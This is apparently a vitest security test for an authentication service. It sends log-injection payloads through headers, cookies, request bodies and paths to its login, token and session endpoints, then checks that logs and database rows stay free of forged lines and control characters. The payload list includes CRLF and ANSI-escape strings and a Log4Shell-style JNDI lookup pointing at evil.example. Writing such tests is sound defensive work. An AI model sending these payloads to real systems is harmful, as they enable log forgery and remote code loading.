import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ADAPTERS, PASSWORD, startApp, type TestApp } from '../support/app.js';
import { rawCall } from './kit.js';

/** A line of its own, colours of a terminal, a line of another script, an arrow back, a separator that some viewers break at. */
const FORGED = 'GATEHOUSE-FORGED';
const INJECTIONS: readonly string[] = [
  `x\r\n${FORGED} signed in`,
  `x\n${FORGED}`,
  `x\r${FORGED}`,
  `x\u001b[2K\u001b[1A${FORGED}`,
  `x\u0000${FORGED}`,
  `x\u0008\u0008${FORGED}`,
  `x\u2028${FORGED}\u2029`,
  `x\u0085${FORGED}`,
  `x\u202e${FORGED}`,
  `x\u009b31m${FORGED}`,
  `\${jndi:ldap://evil.example/${FORGED}}`,
  `%s %o %d %j ${FORGED}`,
];

const UNPRINTABLE = /[\p{Cc}\p{Cf}\u2028\u2029]/u;

describe.each(ADAPTERS)('what somebody sends to be logged, on %s', (adapter) => {
  let app: TestApp;
  const lines: string[] = [];
  const keep = (...parts: unknown[]): void => {
    // Stacks of our own errors have lines of their own: what comes from outside has none in any of them.
    lines.push(...parts.map(String));
  };

  beforeAll(async () => {
    app = await startApp({
      adapter,
      logger: { log: keep, warn: keep, error: keep },
      auth: { rateLimits: { multiplier: 1_000 }, trustedProxyHops: 1, emailVerification: 'off' },
    });
  });
  afterAll(() => app.close());

  it('reaches no line of the log, no row and no answer with what does not print', async () => {
    const browser = app.client();
    await browser.register('ada@example.com');
    expect((await browser.signIn('ada@example.com')).status).toBe(200);
    for (const text of INJECTIONS) {
      // As far as a header may carry it: Node itself refuses the control characters of ASCII.
      const header = Buffer.from(
        text.replace(/\p{Cc}/gu, (char) => (char < ' ' ? '\t' : char)),
        'utf8',
      ).toString('latin1');
      const plain = { 'user-agent': header, 'x-forwarded-for': header, 'x-request-id': header, referer: header };
      const cookie = `auth_session=${encodeURIComponent(text)}; auth_device=${encodeURIComponent(text)}`;
      const headers = { ...plain, cookie, origin: 'null' };
      const json = (body: object): [string, Record<string, string>] => [
        JSON.stringify(body),
        { ...headers, 'content-type': 'application/json' },
      ];
      for (const [method, path, body] of [
        ['POST', '/auth/login', { email: text, password: text }],
        ['POST', '/auth/login', { email: 'ada@example.com', password: text, [text]: text }],
        ['POST', '/auth/register', { email: text, password: PASSWORD }],
        ['POST', '/auth/password/forgot', { email: text }],
        ['POST', '/auth/password/reset', { token: text, password: PASSWORD }],
        ['POST', '/auth/token', { grant_type: text, username: text }],
        ['POST', '/auth/token/refresh', { refresh_token: text }],
        ['GET', `/auth/oauth/${encodeURIComponent(text)}`, undefined],
        ['DELETE', `/auth/sessions/${encodeURIComponent(text)}`, undefined],
      ] as const) {
        const [payload, sent] = body === undefined ? [undefined, headers] : json(body);
        const answer = await rawCall(app.url, method, path, sent, payload);
        expect([path, answer.status < 500]).toEqual([path, true]);
      }
      // A wrong password and a right one, with the text for a browser.
      for (const password of ['a wrong password altogether', PASSWORD]) {
        const [payload, sent] = [JSON.stringify({ email: 'ada@example.com', password }), plain];
        await rawCall(app.url, 'POST', '/auth/login', { ...sent, 'content-type': 'application/json' }, payload);
      }
    }
    for (const line of lines.flatMap((each) => each.split('\n    at ')[0]!)) {
      expect(line).not.toMatch(UNPRINTABLE);
      expect(line).not.toContain(FORGED);
    }
    const rows: Record<string, unknown>[] = [
      ...(await app.dataSource.query('SELECT * FROM auth_audit')),
      ...(await app.dataSource.query('SELECT * FROM auth_sessions')),
    ];
    expect(rows.some(({ user_agent }) => String(user_agent).includes(FORGED))).toBe(true);
    for (const row of rows) {
      for (const value of Object.values(row)) expect(String(value)).not.toMatch(UNPRINTABLE);
    }
  });
});
